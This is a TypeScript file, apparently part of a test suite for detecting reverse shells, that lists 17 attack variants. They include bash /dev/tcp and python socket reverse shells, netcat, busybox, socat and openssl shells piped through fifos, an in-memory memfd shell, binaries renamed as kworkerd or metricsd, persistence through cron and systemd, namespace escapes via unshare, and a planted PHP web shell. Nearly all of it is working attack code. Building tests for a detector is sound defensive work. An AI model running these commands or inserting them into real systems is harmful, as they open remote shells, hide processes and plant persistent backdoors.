// The same shell by other ways in: who starts it, from where, under which name, over what.
import { join } from "node:path";
import { PROGRAMS } from "./evasions/row.ts";
import type { HardAttack, Place } from "./hard_attacks.ts";
import type { Host } from "./testhost.ts";

const bash = (place: Place): string => `bash -i >& /dev/tcp/${place.attacker}/${place.port} 0>&1`;
const python = (place: Place, rest: string): string =>
  `exec python3 -c 'import socket,os,pty;s=socket.create_connection(("${place.attacker}",${place.port}));${rest}'`;

/** Once per host: the compiled programs, copies of shells, a web server that runs what it is sent. */
export async function prepareVariants(host: Host): Promise<void> {
  host.copyIn(join(import.meta.dir, "evasions/programs"), PROGRAMS);
  await host.must(`
    cd ${PROGRAMS} && for c in *.c; do gcc -O1 -o "$(basename "$c" .c)" "$c"; done
    cp /bin/dash /usr/local/bin/metricsd; cp /bin/bash /usr/local/bin/kworkerd; cp /bin/busybox /usr/local/bin/syncd
    printf '<?php system($_GET["c"]); ?>' >/var/www/html/run.php
    cat >/etc/nginx/sites-enabled/default <<'END'
server {
  listen 80; root /var/www/html;
  location ~ [.]php$ { include fastcgi_params; fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name; fastcgi_pass unix:/run/php/php8.2-fpm.sock; }
}
END
    systemctl start php8.2-fpm nginx`);
}

export const VARIANTS: readonly HardAttack[] = [
  tcp("an unprivileged user", bash, { user: "alice" }),
  tcp("a job of cron", bash, {
    user: "alice",
    launch: (place, script) => `
      printf '#!/bin/bash\\n%s\\n' '${script}' >/opt/job-${place.port}; chmod 755 /opt/job-${place.port}
      echo '@reboot alice /opt/job-${place.port}' >/etc/cron.d/hard-${place.port}
      rm -f /run/crond.reboot; systemctl restart cron`,
    cleanup: (place) => `rm -f /etc/cron.d/hard-${place.port}; systemctl kill -s KILL cron; systemctl start cron`,
  }),
  tcp("a service with a unit file", bash, {
    user: "root",
    launch: (place, script) => `
      printf '[Service]\\nExecStart=/bin/bash -c "%s"\\n' '${script}' >/etc/systemd/system/${place.unit}.service
      systemctl daemon-reload; systemctl start --no-block ${place.unit}`,
    cleanup: (place) => `rm -f /etc/systemd/system/${place.unit}.service; systemctl daemon-reload`,
  }),
  tcp("the child of a web server", (place) => `bash -c "${bash(place)}"`, {
    user: "www-data",
    launch: () => "true",
    remote: (place) =>
      `curl -s -m 3 -G http://${place.host}/run.php --data-urlencode 'c=bash -c "${bash(place)}"' >/dev/null`,
    cleanup: () => "systemctl restart php8.2-fpm",
  }),
  tcp("a container with namespaces of its own", (place) => inContainer(bash(place)), { user: "root" }),
  tcp(
    "python in a container with namespaces of its own",
    (place) => inContainer(python(place, 'os.dup2(s.fileno(),0);os.dup2(0,1);os.dup2(0,2);os.execv("/bin/sh",["sh"])')),
    { user: "root" },
  ),
  tcp("a shell under another name", (place) => bash(place).replace("bash -i", "kworkerd -i")),
  tcp("a copy of dash behind netcat and a fifo", (place) =>
    fifo(place, "metricsd", `nc ${place.attacker} ${place.port}`),
  ),
  tcp("a static busybox under another name", (place) =>
    fifo(place, "(exec -a sh syncd)", `(exec -a nc syncd ${place.attacker} ${place.port})`),
  ),
  tcp("a static busybox", (place) => `exec busybox nc ${place.attacker} ${place.port} -e /bin/sh`),
  tcp("a shell in memory only", (place) =>
    python(
      place,
      'm=os.memfd_create("x",0);os.write(m,open("/bin/dash","rb").read());[os.dup2(s.fileno(),n) for n in (0,1,2)];os.execv("/proc/self/fd/%d"%m,["app"])',
    ),
  ),
  tcp("a terminal", (place) => python(place, '[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("/bin/bash")')),
  tcp("a fifo in shared memory", (place) =>
    fifo({ ...place, folder: "/dev/shm" }, "sh", `nc ${place.attacker} ${place.port}`),
  ),
  tcp("socat with a terminal", (place) => `exec socat TCP:${place.attacker}:${place.port} EXEC:sh,pty,stderr,setsid`),
  {
    ...tcp("openssl and a shell in a pipe", (place) =>
      fifo(place, "sh", `openssl s_client -quiet -connect ${place.attacker}:${place.port} 2>/dev/null`),
    ),
    transport: "tls",
  },
  tcp("a connection made by io_uring", (place) => `exec ${PROGRAMS}/uring_shell ${place.attacker} ${place.port}`),
  {
    name: "a bind shell of socat in a container",
    kind: "bind",
    transport: "tcp",
    user: "root",
    script: (place) => inContainer(`exec socat TCP-LISTEN:${place.port} EXEC:sh`),
  },
];

function tcp(name: string, script: (place: Place) => string, more: Partial<HardAttack> = {}): HardAttack {
  return { name: `a reverse shell by ${name}`, kind: "reverse", transport: "tcp", script, ...more };
}

function inContainer(script: string): string {
  return `exec unshare --pid --fork --mount-proc --mount --uts --ipc --cgroup bash -c '${script.replaceAll("'", "'\\''")}'`;
}

/** `shell | carrier` in a ring. */
function fifo(place: Pick<Place, "folder" | "port">, shell: string, carrier: string): string {
  const path = `${place.folder}/ring-${place.port}`;
  return `rm -f ${path}; mkfifo ${path}; ${shell} <${path} 2>&1 | ${carrier} >${path}`;
}
